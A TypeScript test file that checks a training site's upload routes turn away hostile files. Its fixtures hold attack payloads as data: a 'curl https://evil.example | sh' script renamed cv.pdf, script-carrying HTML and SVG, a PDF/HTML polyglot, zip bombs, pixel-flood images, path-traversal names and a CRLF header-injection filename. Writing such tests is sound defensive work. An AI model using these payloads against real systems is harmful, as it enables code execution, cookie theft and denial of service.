/**
 * Hostile uploads, each sent where it could do harm (a CV, an instructor photo, a new course
 * image, a replaced course image): refused with the right 4xx and nothing written — the three
 * upload folders (uploads/, private/cvs/, tmp/) list exactly what they listed before, and no row
 * changed. The cases candidatures.test.ts and courses.test.ts already cover are not repeated.
 */
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { courseFields, createCourse, createInstructor } from '../support/builders.ts';
import { rowCount, useTestContext } from '../support/context.ts';
import { exeBytes, jpegWithExifBytes, pdfBytes, pdfFile, pngBytes, pngPart, zipBytes } from '../support/fixtures.ts';
import { memoryGrowth } from '../support/memory.ts';
import {
  DOCX_CONTENT_TYPES,
  multipartType,
  pixelFloodPng,
  rawMultipart,
  type RawPart,
  uploadFolders,
} from './hostile.ts';

/** Deflated, so that megabytes of zeros fit in a small upload. */
const deflatedZip = (entries: Record<string, Buffer>) => zipBytes(entries, { deflate: true });

const ctx = useTestContext();
let folders: ReturnType<typeof uploadFolders>;
let instructorId: string;
let courseId: string;

beforeAll(async () => {
  folders = uploadFolders(ctx.dataDir, ctx.stored);
  instructorId = (await createInstructor(ctx, 'Amel Ben Salah', await pngPart('avatar', 'a.png')))._id;
  courseId = (await createCourse(ctx, instructorId, {}, await pngPart('image', 'c.png')))._id;
});

const MEGABYTE = 1024 * 1024;
const BOUNDARY = '----TakwinUploadsBoundary';

interface UploadRoute {
  label: string;
  method: 'POST' | 'PUT';
  url: () => string;
  field: string;
  fields: () => Record<string, string>;
  admin: boolean;
}

const CV: UploadRoute = {
  label: 'a CV',
  method: 'POST',
  url: () => '/api/candidatures',
  field: 'cv',
  fields: () => ({ name: 'Nour Ayari', email: 'nour@example.tn' }),
  admin: false,
};
const IMAGE_ROUTES: UploadRoute[] = [
  {
    label: 'an instructor photo',
    method: 'POST',
    url: () => '/api/instructors',
    field: 'avatar',
    fields: () => ({ name: 'Sami', title: 'Formateur' }),
    admin: true,
  },
  {
    label: 'a new course image',
    method: 'POST',
    url: () => '/api/courses',
    field: 'image',
    fields: () => courseFields(instructorId),
    admin: true,
  },
  {
    label: 'a replaced course image',
    method: 'PUT',
    url: () => `/api/courses/${courseId}`,
    field: 'image',
    fields: () => courseFields(instructorId),
    admin: true,
  },
];
const imageCases = IMAGE_ROUTES.map((route) => [route.label, route] as const);

interface FileToSend {
  filename: string;
  content: Buffer;
  contentType?: string;
  filenameStar?: boolean;
}

function formParts(route: UploadRoute, file: FileToSend, fileFirst = false): RawPart[] {
  const fields = Object.entries(route.fields()).map(([name, value]) => ({ name, content: Buffer.from(value) }));
  const part = { name: route.field, ...file };
  return fileFirst ? [part, ...fields] : [...fields, part];
}

const send = (route: UploadRoute, payload: Buffer, contentType = multipartType(BOUNDARY)) =>
  ctx.inject({
    method: route.method,
    url: route.url(),
    headers: { ...(route.admin ? ctx.auth : {}), 'content-type': contentType },
    payload,
  });

const upload = (route: UploadRoute, file: FileToSend, { fileFirst = false } = {}) =>
  send(route, rawMultipart(formParts(route, file, fileFirst), BOUNDARY));

/** The rows an upload could add or change. */
async function databaseState() {
  const db = ctx.app.db.kysely;
  return {
    instructors: await rowCount(ctx, 'instructors'),
    courses: await rowCount(ctx, 'courses'),
    candidatures: await rowCount(ctx, 'candidatures'),
    course: await db.selectFrom('courses').selectAll().where('id', '=', courseId).executeTakeFirst(),
  };
}

/** Sends, then checks the status, the code, the message, and that no folder and no row changed. */
async function expectRefused(request: () => ReturnType<typeof send>, status: number, code?: string) {
  const files = await folders.snapshot();
  const rows = await databaseState();
  const response = await request();
  expect(response.statusCode, response.body).toBe(status);
  const body = response.json() as { message?: string; code?: string };
  expect(body.message).toEqual(expect.stringMatching(/\S/));
  if (code) expect(body.code).toBe(code);
  expect(await folders.snapshot()).toEqual(files);
  expect(await databaseState()).toEqual(rows);
  return response;
}

/** A real JPEG whose frame header is rewritten to claim width × height pixels. */
async function pixelFloodJpeg(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(
    await sharp({ create: { width: 16, height: 16, channels: 3, background: '#336699' } })
      .jpeg()
      .toBuffer(),
  );
  for (let at = 2; at < jpeg.length - 9; at++) {
    if (jpeg[at] === 0xff && (jpeg[at + 1] === 0xc0 || jpeg[at + 1] === 0xc2)) {
      jpeg.writeUInt16BE(height, at + 5);
      jpeg.writeUInt16BE(width, at + 7);
      return jpeg;
    }
  }
  throw new Error('no frame header in the JPEG');
}

describe('programs and pages posing as documents', () => {
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(504)]);

  it.each([
    ['a Linux executable renamed cv.pdf', elf, 'cv.pdf'],
    ['a shell script renamed cv.pdf', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), 'cv.pdf'],
    [
      'HTML after a byte-order mark and blank lines',
      Buffer.from('\ufeff\n\n  <!doctype html><html><script>alert(document.cookie)</script></html>'),
      'cv.pdf',
    ],
    [
      'HTML that mentions %PDF- further in',
      Buffer.from('<html><body>%PDF-1.4<script>alert(1)</script></body></html>'),
      'cv.pdf',
    ],
    [
      'HTML after a %PDF- header, with no PDF structure',
      Buffer.from('%PDF-1.4\n<!doctype html><html><script>alert(document.cookie)</script></html>\n%%EOF\n'),
      'cv.pdf',
    ],
    ['a Windows executable inside a ZIP renamed cv.docx', zipBytes({ 'setup.exe': exeBytes() }), 'cv.docx'],
  ])('refuses %s as a CV with 415', async (_label, content, filename) => {
    await expectRefused(() => upload(CV, { filename, content, contentType: 'application/pdf' }), 415, 'cv_type');
  });

  it.each(imageCases)('refuses a Windows executable renamed photo.jpg as %s with 415', async (_label, route) => {
    await expectRefused(
      () => upload(route, { filename: 'photo.jpg', content: exeBytes(), contentType: 'image/jpeg' }),
      415,
      'image_type',
    );
  });

  it.each(imageCases)('refuses HTML and SVG with a script, posing as images, as %s with 415', async (_label, route) => {
    const html = Buffer.from('<!doctype html><html><script>alert(document.cookie)</script></html>');
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
    );
    await expectRefused(
      () => upload(route, { filename: 'photo.png', content: html, contentType: 'image/png' }),
      415,
      'image_type',
    );
    await expectRefused(
      () => upload(route, { filename: 'photo.svg', content: svg, contentType: 'image/svg+xml' }),
      415,
      'image_type',
    );
  });

  it('serves a PDF that also holds HTML only as a PDF attachment, never as a page', async () => {
    const html = '<!doctype html><html><script>alert(document.cookie)</script></html>';
    const polyglot = pdfFile('%PDF-1.4\n', [
      '<< /Type /Catalog >>',
      `<< /Length ${html.length} >>\nstream\n${html}\nendstream`,
    ]);
    const response = await upload(CV, { filename: 'cv.html', content: polyglot, contentType: 'text/html' });
    expect(response.statusCode).toBe(201);
    expect(response.json().cvOriginalName).toBe('cv.pdf');
    const download = await ctx.inject({ method: 'GET', url: response.json().cvPath, headers: ctx.auth });
    expect(download.headers['content-type']).toBe('application/pdf');
    expect(download.headers['content-disposition']).toMatch(/^attachment;/);
    expect(download.headers['x-content-type-options']).toBe('nosniff');
  });
});

describe('a DOCX that is a zip bomb', () => {
  const zeros = () => Buffer.alloc(50 * MEGABYTE);

  it.each([
    [
      'its document part unpacks to 50 MB of zeros',
      () => deflatedZip({ '[Content_Types].xml': DOCX_CONTENT_TYPES, 'word/document.xml': zeros() }),
    ],
    [
      'its content-types part unpacks to 50 MB',
      () =>
        deflatedZip({
          '[Content_Types].xml': Buffer.concat([DOCX_CONTENT_TYPES, zeros()]),
          'word/document.xml': Buffer.from('<w:document/>'),
        }),
    ],
    [
      'it holds 150 parts of 1 MB each',
      () =>
        deflatedZip({
          '[Content_Types].xml': DOCX_CONTENT_TYPES,
          ...Object.fromEntries(
            Array.from({ length: 150 }, (_, i) => [`word/media/part${i}.xml`, Buffer.alloc(MEGABYTE)]),
          ),
        }),
    ],
  ])('is refused with 415 when %s, without being unpacked', async (_label, build) => {
    const bomb = build();
    expect(bomb.length).toBeLessThan(2 * MEGABYTE);
    const started = performance.now();
    const growth = await memoryGrowth(() =>
      expectRefused(() => upload(CV, { filename: 'cv.docx', content: bomb }), 415, 'cv_type'),
    );
    expect(performance.now() - started).toBeLessThan(2_000);
    // Unpacking would take 50 MB or more; reading the ZIP's directory takes next to nothing.
    expect(growth).toBeLessThan(40 * MEGABYTE);
  });

  it('still accepts a DOCX whose parts compress as text does', async () => {
    const words = ['formation', 'développement', 'React', 'خبرة', 'Tunis', 'projet', 'équipe', 'client'];
    const paragraphs = Array.from(
      { length: 20_000 },
      (_, i) => `<w:p><w:r><w:t>${words[i % 8]} ${i * 7919} ${words[(i * 3) % 8]}</w:t></w:r></w:p>`,
    );
    const docx = deflatedZip({
      '[Content_Types].xml': DOCX_CONTENT_TYPES,
      'word/document.xml': Buffer.from(`<w:document><w:body>${paragraphs.join('')}</w:body></w:document>`),
      'word/media/photo.png': await pngBytes(400, 400),
    });
    const response = await upload(CV, { filename: 'cv.docx', content: docx });
    expect(response.statusCode, response.body).toBe(201);
  });
});

describe('files over the 5 MB limit by one byte', () => {
  it.each(imageCases)('refuses %s of 5 MB + 1 byte with 413', async (_label, route) => {
    const png = await pngBytes();
    const content = Buffer.concat([png, Buffer.alloc(5 * MEGABYTE + 1 - png.length)]);
    expect(content.length).toBe(5 * MEGABYTE + 1);
    await expectRefused(
      () => upload(route, { filename: 'big.png', content, contentType: 'image/png' }),
      413,
      'file_too_large',
    );
  });

  it('refuses a CV of 5 MB + 1 byte sent before the text fields with 413', async () => {
    await expectRefused(
      () => upload(CV, { filename: 'cv.pdf', content: pdfBytes(5 * MEGABYTE + 1) }, { fileFirst: true }),
      413,
      'file_too_large',
    );
  });
});

describe('images that would flood memory or cannot be read', () => {
  it.each(imageCases)(
    'refuses %s whose PNG header declares 50,000 × 50,000 pixels with 415, without decoding it',
    async (_label, route) => {
      const flood = pixelFloodPng(50_000, 50_000);
      expect(flood.length).toBeLessThan(200);
      const started = performance.now();
      const growth = await memoryGrowth(() =>
        expectRefused(() => upload(route, { filename: 'flood.png', content: flood }), 415, 'image_unreadable'),
      );
      expect(performance.now() - started).toBeLessThan(2_000);
      expect(growth).toBeLessThan(64 * MEGABYTE);
    },
  );

  it.each(imageCases)(
    'refuses %s whose JPEG header declares 65,000 × 65,000 pixels with 415',
    async (_label, route) => {
      const flood = await pixelFloodJpeg(65_000, 65_000);
      await expectRefused(() => upload(route, { filename: 'flood.jpg', content: flood }), 415, 'image_unreadable');
    },
  );

  it.each(imageCases)(
    'refuses a truncated or corrupt JPEG, and a truncated PNG, as %s with 415',
    async (_label, route) => {
      const jpeg = await jpegWithExifBytes();
      const corrupt = Buffer.from(jpeg);
      for (let at = 200; at < corrupt.length - 2; at += 7) corrupt[at] = 0xff;
      const png = await pngBytes();
      for (const content of [
        jpeg.subarray(0, Math.floor(jpeg.length / 2)),
        jpeg.subarray(0, 20),
        corrupt,
        png.subarray(0, png.length - 20),
      ]) {
        await expectRefused(() => upload(route, { filename: 'photo.jpg', content, contentType: 'image/jpeg' }), 415);
      }
    },
  );

  it.each([...imageCases, [CV.label, CV] as const])('refuses an empty file as %s with 400', async (_label, route) => {
    await expectRefused(() => upload(route, { filename: 'empty.png', content: Buffer.alloc(0) }), 400, 'file_empty');
  });
});

describe('broken multipart bodies', () => {
  const routes = [...imageCases, [CV.label, CV] as const];

  it.each(routes)(
    'refuses %s cut off in the middle of the file with 400, keeping no part of it',
    async (_label, route) => {
      const file = route === CV ? pdfBytes(256 * 1024) : Buffer.concat([await pngBytes(), Buffer.alloc(256 * 1024)]);
      const body = rawMultipart(formParts(route, { filename: 'cut.bin', content: file }), BOUNDARY);
      await expectRefused(() => send(route, body.subarray(0, body.length - 100 * 1024)), 400);
    },
  );

  it.each(routes)(
    'refuses %s without a boundary, or with one the body does not use, with 400',
    async (_label, route) => {
      const body = rawMultipart(formParts(route, { filename: 'a.png', content: await pngBytes() }), BOUNDARY);
      await expectRefused(() => send(route, body, 'multipart/form-data'), 400);
      await expectRefused(() => send(route, body, multipartType('another-boundary')), 400);
    },
  );

  it.each(routes)('refuses %s whose closing boundary never comes with 400', async (_label, route) => {
    const content = route === CV ? pdfBytes() : await pngBytes();
    const body = rawMultipart(formParts(route, { filename: 'a.pdf', content }), BOUNDARY, { close: false });
    await expectRefused(() => send(route, body), 400);
  });
});

describe('file names with paths and control characters', () => {
  /** What an admin may safely receive: a name without folders, controls or reordering marks. */
  const expectSafeName = (name: string) => {
    expect(name).not.toMatch(/[/\\]/);
    // eslint-disable-next-line no-control-regex
    expect(name).not.toMatch(/[\u0000-\u001f\u007f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
    expect(name).not.toMatch(/^\.\.?$/);
  };

  it.each([
    ['../../etc/passwd.pdf', false, 'passwd.pdf'],
    ['..\\..\\win.ini.pdf', false, 'win.ini.pdf'],
    ['C:\\Users\\x\\..\\..\\Windows\\evil.pdf', false, 'evil.pdf'],
    ['../../etc/passwd.pdf', true, 'passwd.pdf'],
    ['cv\u0000.pdf', false, 'cv.pdf'],
    ['cv\u0000\u0007\u001b[31m.pdf', true, 'cv[31m.pdf'],
    ['invoice\u202efdp.exe', true, 'invoicefdp.pdf'],
    ['\u202e\u2066cv\u2069.pdf', true, 'cv.pdf'],
    ['..', false, 'cv.pdf'],
  ])(
    'stores a CV named %j (encoded: %s) under a random name and serves it back as %j',
    async (filename, filenameStar, expected) => {
      const before = await folders.snapshot();
      const response = await upload(CV, { filename, filenameStar, content: pdfBytes() });
      expect(response.statusCode, response.body).toBe(201);
      const { cvOriginalName, cvPath } = response.json() as { cvOriginalName: string; cvPath: string };
      expect(cvOriginalName).toBe(expected);
      expectSafeName(cvOriginalName);

      const after = await folders.snapshot();
      expect(after.uploads).toEqual(before.uploads);
      expect(after.tmp).toEqual(before.tmp);
      const added = after.cvs.filter((file) => !before.cvs.includes(file));
      expect(added).toEqual([expect.stringMatching(/^[0-9a-f-]{36}\.pdf$/)]);

      const download = await ctx.inject({ method: 'GET', url: cvPath, headers: ctx.auth });
      const disposition = String(download.headers['content-disposition']);
      // eslint-disable-next-line no-control-regex
      expect(disposition).not.toMatch(/[\u0000-\u001f\u007f]/);
      expect(disposition).toMatch(/^attachment; filename="[^"\\/]*"; filename\*=UTF-8''[A-Za-z0-9%._~!$&+,;=@-]+$/);
      expect(decodeURIComponent(disposition.split("UTF-8''")[1]!)).toBe(expected);
    },
  );

  it.each([
    ['cv\r\n.pdf in a quoted name', 'cv\r\n.pdf', false],
    ['CR, LF and NUL in an encoded name', 'cv\u0000\r\nContent-Type: text/html.pdf', true],
  ])('refuses or safely stores a CV whose name has %s', async (_label, filename, filenameStar) => {
    const before = await folders.snapshot();
    const response = await upload(CV, { filename, filenameStar, content: pdfBytes() });
    const after = await folders.snapshot();
    expect(after.uploads).toEqual(before.uploads);
    expect(after.tmp).toEqual(before.tmp);
    if (response.statusCode === 201) {
      expectSafeName(response.json().cvOriginalName);
      expect(after.cvs.filter((file) => !before.cvs.includes(file))).toEqual([
        expect.stringMatching(/^[0-9a-f-]{36}\.pdf$/),
      ]);
    } else {
      expect(response.statusCode).toBe(400);
      expect(after.cvs).toEqual(before.cvs);
    }
  });

  it.each(imageCases)(
    'stores %s named with a path, controls and a reordering mark under a random .webp name only',
    async (_label, route) => {
      for (const filename of [
        '../../../uploads/evil.png',
        '..\\..\\..\\evil.png',
        'evil\u0000.png',
        '\u202egnp.exe',
        '/etc/passwd',
      ]) {
        const before = await folders.snapshot();
        const response = await upload(route, { filename, content: await pngBytes() });
        expect(response.statusCode, response.body).toBe(route.method === 'POST' ? 201 : 200);
        const imageUrl = (response.json() as { imageUrl: string }).imageUrl;
        expect(imageUrl).toMatch(/^\/uploads\/[0-9a-f-]{36}\.webp$/);
        const after = await folders.snapshot();
        expect(after.cvs).toEqual(before.cvs);
        expect(after.tmp).toEqual(before.tmp);
        expect(after.uploads).toContain(imageUrl.slice('/uploads/'.length));
      }
    },
  );
});
